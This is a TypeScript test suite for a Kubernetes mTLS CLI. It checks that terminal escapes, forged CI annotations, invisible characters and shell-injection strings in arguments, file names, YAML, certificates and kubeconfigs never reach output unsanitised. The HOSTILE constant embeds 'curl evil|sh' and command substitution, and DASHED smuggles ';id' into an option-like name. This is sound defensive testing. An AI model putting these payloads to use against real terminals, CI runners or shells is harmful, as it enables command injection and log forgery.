import * as fs from "node:fs";
import * as path from "node:path";
import { type Document, parse, parseDocument, visit } from "yaml";
import { desiredCluster } from "../../src/cli/desired-cluster";
import { ConfiguredRepository } from "../../src/cluster/repository";
import { NOW, type Ran, runIn } from "../cli/fake-terminal";
import { commit } from "../cli/git";
import { contentsOf, copyOf, holders, newFolder, read, write } from "../cli/user-repository";
import { soundCluster } from "../components/sound";
import { type FakeApiServer, fakeApiServer, kubeconfigFor, repliesOf } from "../live/fake-api-server";
import { rootCa } from "../support/external-ca";
import { visited } from "../support/walk";
import { BUNDLE, CA_KEY, edit, rendered, SERVER, SOPS_YAML } from "./place";

/** The only room that prints. */
const CLI = path.join(__dirname, "../../src/cli");

/** Everything that a terminal, a CI runner, a reader or a shell would obey; a path can hold it. */
const HOSTILE =
  "x\u001b]0;t\u0007\u001b[2J\u001b[32mGREEN\r\n::warning file=a::FORGED\nFORGED\u202e\u2066\u009b31m\u2028\u2029\u200b\u00ad\u{e0041}##[error]FORGED ##vso[a.b]FORGED;curl evil|sh `id` $(id) 'q' #";
/** A name that a command line takes for an option. */
const DASHED = "--exec;id";

/** A way to run a command, by its name in the help. */
const COMMANDS: Readonly<Record<string, readonly (readonly string[])[]>> = {
  setup: [["--ci", HOSTILE], ["--diff"]],
  init: [
    [HOSTILE],
    ["new", "--recipient", HOSTILE],
    ["new", HOSTILE, HOSTILE, "demo"],
    ["new", "--label", HOSTILE],
    ["new", "--label", `region=${HOSTILE}`],
    ["new", "--server-cn", HOSTILE],
    ["new", "--generate-identity", HOSTILE],
  ],
  adopt: [
    [HOSTILE, "--from-files", "."],
    ["new", "--from-files", HOSTILE],
    ["new", "--from-manifests", HOSTILE],
    ["new", "--context", HOSTILE],
    ["new", "--context", "x", "--secret", HOSTILE],
  ],
  plan: [[], ["-o", "json"], ["--verbose"], ["--against", HOSTILE]],
  synth: [
    [],
    ["-o", "json"],
    ["-o", "yaml"],
    ["--diff"],
    [HOSTILE],
    [DASHED],
    ["demo", "--stdout"],
    [HOSTILE, "--stdout"],
  ],
  status: [[], ["-o", "wide"], ["-o", "json"], ["-o", "yaml"], [HOSTILE], ["--group", HOSTILE]],
  check: [
    ["--quiet"],
    ["--verbose"],
    ...["json", "yaml", "github", "gitlab", "sarif"].map((format) => ["-o", format]),
    ["-o", "github", "--against", "HEAD"],
    [],
    ["--identity", HOSTILE],
    ["--shard", HOSTILE],
    ["--against", HOSTILE],
    ["--against", "HEAD"],
    ["--against", "HEAD", "--verbose"],
    ["--against", "HEAD", "--quiet"],
    ["--against", "HEAD", "--approve", HOSTILE],
    [`--changed=${HOSTILE}`],
    ["--changed", "--", HOSTILE],
    ["--report", HOSTILE],
    ["--report", `${HOSTILE}.md`],
    ["--report", `dist/${HOSTILE}`],
    ["-o", "json", "--output-file", `x/${HOSTILE}.md`, "--report", `x/${HOSTILE}.md`],
  ],
  report: [
    [],
    ["-o", "markdown", "--against", "HEAD"],
    ["-o", "json"],
    ["-o", "json", "--against", "HEAD"],
    ["--out", HOSTILE],
    ["--against", HOSTILE],
    ["--context", HOSTILE],
    [HOSTILE],
  ],
  migrate: [
    ["demo"],
    ["demo", "-o", "yaml"],
    ["demo", "--to", HOSTILE],
    ["demo", "--calico", HOSTILE],
    [HOSTILE],
    ["--group", HOSTILE],
  ],
  probe: [[HOSTILE], ["--context", HOSTILE], ["--cluster", HOSTILE, "localhost"], ["--timeout", HOSTILE]],
  "cni simulate": [[HOSTILE], ["demo"], ["--scenario", HOSTILE], ["--runtime", HOSTILE]],
  "cni check": [
    [HOSTILE],
    [HOSTILE, "--bin-dir", HOSTILE],
    ["--root", HOSTILE],
    ["--root", ".", "--cluster", HOSTILE],
    ["--root", ".", "--cluster", "demo"],
    ["--require", HOSTILE],
    ["--runtime", HOSTILE],
  ],
  "recipients list": [[], ["-o", "wide"], ["-o", "json"], ["-o", "yaml"], [HOSTILE]],
  "recipients add": [[HOSTILE], [HOSTILE, "--cluster", HOSTILE]],
  "recipients remove": [[HOSTILE]],
  "recipients replace": [
    [HOSTILE, HOSTILE],
    [HOSTILE, HOSTILE, "demo", "--lost"],
  ],
  "recipients sync": [[], [HOSTILE]],
  doctor: [[], ["-o", "json"], ["-o", "yaml"], ["--identity", HOSTILE], ["--context", HOSTILE], ["--context", "demo"]],
  csr: [
    ["demo"],
    [HOSTILE],
    ["demo", "--server-uri", HOSTILE],
    ["demo", "--client-cn", HOSTILE],
    ["demo", "--role", HOSTILE],
  ],
  import: [
    ["demo", HOSTILE],
    [HOSTILE, HOSTILE],
  ],
  renew: [
    ["--all"],
    ["--all", "-o", "json"],
    ["--all", "--quiet"],
    [HOSTILE],
    ["demo", "--within", HOSTILE],
    ["--group", HOSTILE],
  ],
  "rotate-ca status": [["demo"], ["demo", "-o", "yaml"], [HOSTILE]],
  "rotate-ca start": [["demo", "--ca", HOSTILE], [HOSTILE], ["demo", "--key", HOSTILE], ["--group", HOSTILE]],
  "rotate-ca issue": [
    ["demo", "--context", HOSTILE],
    ["demo", "--kubeconfig", HOSTILE, "--context", "x"],
  ],
  "rotate-ca finish": [["demo"], [HOSTILE]],
  "rotate-ca abort": [["demo"], [HOSTILE]],
  reseal: [["demo", "--sealing-cert", HOSTILE], [HOSTILE], []],
  sign: [
    ["demo", HOSTILE, HOSTILE],
    ["demo", "databases", HOSTILE],
    ["demo", "databases", `${HOSTILE}.csr`, "-o", "json"],
    [HOSTILE, "databases", "db-1.csr"],
    ["demo", "databases", "db-1.csr", "--identity", HOSTILE],
  ],
  resolve: [[], ["--dry-run"]],
  docs: [[HOSTILE], []],
  "completion bash": [[]],
  "completion zsh": [[]],
  "completion fish": [[]],
  __complete: [[HOSTILE], ["status", ""], ["-C", HOSTILE, "status", ""]],
  explain: [[HOSTILE], [`spec.${HOSTILE}`], [`certificate has expired ${HOSTILE}`], ["-"], []],
};

/** Ways in which a command line itself is wrong. */
const USAGE: readonly (readonly string[])[] = [
  [HOSTILE],
  [`--${HOSTILE}`],
  ["check", `--${HOSTILE}`],
  ["check", `--output=${HOSTILE}`],
  ["check", "--now", HOSTILE],
  ["-C", HOSTILE, "check"],
  ["check", "--bogus", "\n(Did you mean FORGED?)"],
  ["help", HOSTILE],
];

let root: string;
let server: FakeApiServer;

beforeAll(async () => {
  root = await rendered();
  edit(root, "clusters/demo/cluster.yaml", /$/, "  hosts: [{ name: databases }]\n");
  commit(root);
  server = await fakeApiServer();
});
afterAll(() => server.close());

// biome-ignore lint/suspicious/noControlCharactersInRegex: colours begin with an escape character.
const COLOUR = /\u001b\[(?:1|2|22|31|32|33|39)m(?!GREEN)/g;

/** Head of a workflow command of ours: in no value is what would end it or begin another one. */
const ANNOTATION = /^::(?:error|warning) file=[^,:\n]+(?:,line=\d+)?(?:,col=\d+)?,title=[a-z-]+::/gm;

function assertHarmless({ out, err }: Ran, colour = false): void {
  // Only colours of ours are taken out: one that is in front of the hostile word came with it.
  // Of an annotation for GitHub, what follows its head has to be as harmless as any line.
  const said = (out + err).replaceAll(ANNOTATION, "");
  const text = colour ? said.replaceAll(COLOUR, "") : said;
  expect(text.replaceAll("\n", "")).not.toMatch(/[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]|(?! )\p{Zs}/u);
  expect(text).not.toMatch(/^\s*::/m);
  expect(text).not.toMatch(/##[a-z]*\[/);
  expect(text).not.toMatch(/^\W*FORGED/m);
  expect(text).not.toMatch(/^ *at /m);
}

/** Runs every command; everything that is said is harmless, and what is structured is read back. */
async function runAll(at: string, home: string, commands = COMMANDS, colours = [false, true]): Promise<string> {
  const { operator } = await holders();
  const said: string[] = [];
  const env = { HOME: home, SOPS_AGE_KEY: operator.identity, KUBECONFIG: path.join(home, "config") };
  const cwd = copyOf(at);
  for (const [command, ways] of Object.entries(commands)) {
    for (const way of ways) {
      for (const colour of colours) {
        const ran = await runIn({ cwd, env, colour, now: NOW }, ...command.split(" "), ...way);
        assertHarmless(ran, colour);
        said.push(ran.out, ran.err);
        const format = way[way.indexOf("-o") + 1];
        if (way.includes("-o") && format !== "github" && format !== "wide" && format !== "markdown" && ran.out !== "") {
          const data = format === "yaml" ? parse(ran.out, { maxAliasCount: 0 }) : JSON.parse(ran.out);
          said.push(JSON.stringify(data));
        }
      }
    }
  }
  return said.join("\n");
}

test("every command of the program is attacked here", async () => {
  const names = async (...of: readonly string[]) =>
    [...(await runIn(root, ...of, "--help")).out.matchAll(/^ {2}([a-z][a-z-]*) /gm)].map(([, name]) => name!);
  const commands = await names();
  const all = await Promise.all(
    commands
      .filter((name) => name !== "help")
      .map(async (name) => {
        const members = (await runIn(root, name, "--help")).out.includes("Commands:") ? await names(name) : [];
        return members.length === 0 ? [name] : members.filter((one) => one !== "help").map((one) => `${name} ${one}`);
      }),
  );
  expect(Object.keys(COMMANDS).sort()).toEqual([...all.flat(), "__complete"].sort());
});

test("no argument or option reaches the terminal with what a terminal, a CI runner or a reader obeys", async () => {
  await runAll(root, newFolder());
  for (const args of USAGE) {
    for (const colour of [false, true]) assertHarmless(await runIn({ cwd: root, colour }, ...args), colour);
  }
});

/** Commands that read all of a repository, in the ways that `isOne` picks. */
function readers(isOne: (way: readonly string[]) => boolean): typeof COMMANDS {
  const names = [
    "synth",
    "status",
    "check",
    "report",
    "migrate",
    "recipients list",
    "recipients sync",
    "doctor",
    "renew",
    "rotate-ca status",
    "reseal",
  ];
  return Object.fromEntries(names.map((name) => [name, visited(COMMANDS[name]!.filter(isOne))]));
}

/** Whether an argument is the name of a cluster or a word that is shown, and no value of an option. */
const namesCluster = ([first = ""]: readonly string[]) => [HOSTILE, DASHED].includes(first);
const saysHostileWord = (way: readonly string[]) => way.some((word) => [HOSTILE, DASHED].includes(word));
const asksCluster = (way: readonly string[]) => way.includes("--context");

/**
 * Reads a repository that holds a hostile text. A hostile argument beside it is left out, and so is a live cluster: what a
 * command says of an option depends on no file, and the tests above and below give every one of them. A name of a cluster
 * does depend on files.
 *
 * All of it is said in colour. `paint` alone looks at whether it is: without colour, the same lines pass a guard that
 * lets less through (src/cli/terminal.ts).
 */
async function readAll(at: string, clusters?: "named clusters"): Promise<string> {
  const isNamed = clusters === "named clusters";
  const isOne = (way: readonly string[]) =>
    !asksCluster(way) && (!saysHostileWord(way) || (isNamed && namesCluster(way)));
  return runAll(at, newFolder(), readers(isOne), [true]);
}

test("whether it is said in colour is asked by what paints and by the last guard alone", () => {
  const asking = (fs.readdirSync(CLI, { recursive: true }) as string[])
    .filter((file) => file.endsWith(".ts") && /\.colour\b|const \{[^}]*\bcolour\b/.test(read(CLI, file)))
    .sort();
  expect(asking).toEqual(["terminal.ts"]);
});

test.each<[string, (at: string) => void]>([
  [
    "a folder of a cluster",
    (at) => fs.cpSync(path.join(at, "clusters/demo"), path.join(at, "clusters", HOSTILE), { recursive: true }),
  ],
  ["a folder of a cluster without cluster.yaml", (at) => write(at, `clusters/${HOSTILE}/pki/ca.crt`, read(at, BUNDLE))],
  [
    "a folder that looks like an option",
    (at) => write(at, `clusters/${DASHED}/cluster.yaml`, read(at, "clusters/demo/cluster.yaml")),
  ],
  ["a file of pki/", (at) => write(at, `clusters/demo/pki/${HOSTILE}`, "x")],
  ["a node's certificate", (at) => write(at, `clusters/demo/pki/nodes/${HOSTILE}.crt`, read(at, BUNDLE))],
  ["a file of dist/", (at) => write(at, `dist/demo/${HOSTILE}`, "# Rendered by typha-mtls\n")],
  ["a folder of dist/", (at) => write(at, `dist/${HOSTILE}/objects/x.yaml`, "x")],
  ["a link below clusters/", (at) => fs.symlinkSync(HOSTILE, path.join(at, "clusters", HOSTILE))],
  ["what a killed command left", (at) => write(at, `clusters/demo/.${HOSTILE}.typha-mtls-1-2`, "x")],
])("%s with a hostile name reaches no terminal, and no remedy that is pasted", async (_, plant) => {
  const at = copyOf(root);
  plant(at);
  await readAll(at, "named clusters");
});

test("no value and no key of cluster.yaml reaches the terminal as it is", async () => {
  const text = read(root, "clusters/demo/cluster.yaml");
  const paths: (readonly unknown[])[] = [];
  visit(parseDocument(text), {
    Scalar(key, node, parents) {
      if (key === "key") return;
      const keys = parents.flatMap((parent) =>
        parent !== null && "key" in parent ? [(parent.key as { value: unknown }).value] : [],
      );
      if (typeof node.value !== "boolean") paths.push(keys);
    },
  });
  const edits: ((document: Document) => void)[] = [
    ...paths.map((location) => (document: Document) => document.setIn(location, HOSTILE)),
    ...[[], ["metadata"], ["spec"], ["spec", "calico"]].map((location) => (document: Document) => {
      document.setIn([...location, HOSTILE], HOSTILE);
    }),
    (document) => document.setIn(["spec", "typha", "nodeSelector"], { [HOSTILE]: HOSTILE }),
    (document) => document.setIn(["spec", "typha", "priorityClassName"], HOSTILE),
    (document) => document.setIn(["spec", "namespace"], HOSTILE),
    (document) => document.setIn(["metadata", "name"], HOSTILE),
  ];
  expect(paths.length).toBeGreaterThan(4);
  for (const change of visited(edits)) {
    const at = copyOf(root);
    const document = parseDocument(text);
    change(document);
    write(at, "clusters/demo/cluster.yaml", document.toString());
    await runAll(at, newFolder(), { synth: [[]], check: [[], ["-o", "yaml"]] }, [true]);
  }
});

test("nothing in a CNI configuration directory reaches the terminal as it is", async () => {
  const plugin = (type: string) => ({ type, ipam: { type: `ipam-${type}` } });
  const list = (name: string, version: string, ...types: string[]) =>
    JSON.stringify({ name, cniVersion: version, plugins: types.map(plugin) });
  const inName = HOSTILE.replaceAll("/", "");
  const ways = ["containerd", "cri-o"].flatMap((runtime) =>
    [["-o", "json"], ["-o", "yaml"], ["--quiet"], []].map((way) => ["--root", ".", "--runtime", runtime, ...way]),
  );
  for (const files of [
    { [`${inName}.conflist`]: list("n", "0.3.1", HOSTILE, "calico") },
    { "10.conflist": list(HOSTILE, "0.3.1", "calico"), [`${inName}.conf`]: "{}" },
    { "10.conflist": list("n", HOSTILE, "calico"), [`20${inName}.conflist`]: list("n", "0.3.1", "linkerd-cni") },
    { "10.conflist": list("n", "0.3.1", "calico"), [`n/${inName}.conf`]: JSON.stringify(plugin(HOSTILE)) },
    { "10.conflist": list("n", "0.3.1", "calico"), [`n/${inName}.conf`]: "{" },
  ]) {
    const at = copyOf(root);
    for (const [name, text] of Object.entries(files)) write(at, `etc/cni/net.d/${name}`, text);
    const said = await runAll(at, newFolder(), { "cni check": ways });
    expect(said).toContain("cni-");
  }
});

test("no name in a certificate reaches the terminal as it is", async () => {
  const at = copyOf(root);
  const ca = rootCa(HOSTILE);
  write(at, BUNDLE, ca.certificate.pem + read(root, BUNDLE));
  const said = await readAll(at);
  expect(said).toContain("GREEN");
  const given = path.join(newFolder(), "ca.pem");
  fs.writeFileSync(given, ca.certificate.pem);
  await runAll(root, newFolder(), {
    import: [
      ["demo", given],
      ["demo", given, "--add-ca"],
    ],
    "rotate-ca start": [["demo", "--ca", given]],
  });
});

test.each([
  [
    "a recipient of a sealed file",
    (at: string) => edit(at, SERVER, /recipient: age1\S+/, `recipient: ${JSON.stringify(HOSTILE)}`),
  ],
  [
    "a recipient of the CA's key",
    (at: string) => edit(at, CA_KEY, /recipient: age1\S+/, `recipient: ${JSON.stringify(HOSTILE)}`),
  ],
  [
    "a time in a sealed file",
    (at: string) => edit(at, SERVER, /lastmodified: .*/, `lastmodified: ${JSON.stringify(HOSTILE)}`),
  ],
  ["a key of a sealed file", (at: string) => edit(at, SERVER, /^data:/m, `${JSON.stringify(HOSTILE)}: x\ndata:`)],
  ["a name in a sealed file", (at: string) => edit(at, SERVER, /name: .*/, `name: ${JSON.stringify(HOSTILE)}`)],
  [
    "a path_regex",
    (at: string) => edit(at, SOPS_YAML, /path_regex: .*/, `path_regex: ${JSON.stringify(`(${HOSTILE}`)}`),
  ],
  ["a recipient of .sops.yaml", (at: string) => edit(at, SOPS_YAML, /age1\S+?(?=[\s,"]|$)/m, JSON.stringify(HOSTILE))],
  [
    "a key of .sops.yaml",
    (at: string) => edit(at, SOPS_YAML, /^creation_rules:/m, `${JSON.stringify(HOSTILE)}: x\ncreation_rules:`),
  ],
  ["YAML that does not parse", (at: string) => write(at, SOPS_YAML, `creation_rules: [${HOSTILE}`)],
])("%s reaches the terminal only as it can be shown", async (_, change) => {
  const at = copyOf(root);
  change(at);
  await readAll(at);
});

test("no context, and no name that the API server answers, reaches the terminal as it is", async () => {
  const home = newFolder();
  write(
    home,
    "config",
    kubeconfigFor(server.url, "demo").replaceAll(/(?<=name: )demo/g, () => JSON.stringify(HOSTILE)),
  );
  await runAll(root, home, {
    doctor: [
      ["--context", "demo"],
      ["--context", HOSTILE],
    ],
    probe: [["--context", HOSTILE]],
  });
  write(home, "config", kubeconfigFor(server.url, "demo"));
  const git = desiredCluster(new ConfiguredRepository(root), "demo", "kubectl --context demo");
  const sound: Record<string, unknown> = { ...soundCluster(git) };
  const keys = new Set<string>();
  JSON.stringify(sound, (key, value) => {
    if (typeof value === "string") keys.add(key);
    return value;
  });
  expect(keys.size).toBeGreaterThan(10);
  for (const hostile of visited([...keys])) {
    const observed = JSON.parse(
      JSON.stringify(sound, (key, value) => (key === hostile && typeof value === "string" ? HOSTILE : value)),
    );
    server.replies = repliesOf(observed, git.location);
    await runAll(root, home, { doctor: [["--context", "demo", "demo"]] }, [true]);
  }
  server.replies = {};
});

test("nothing of this is written anywhere", async () => {
  const before = contentsOf(root);
  await runIn(root, "check", "--against", HOSTILE);
  expect(contentsOf(root)).toEqual(before);
});
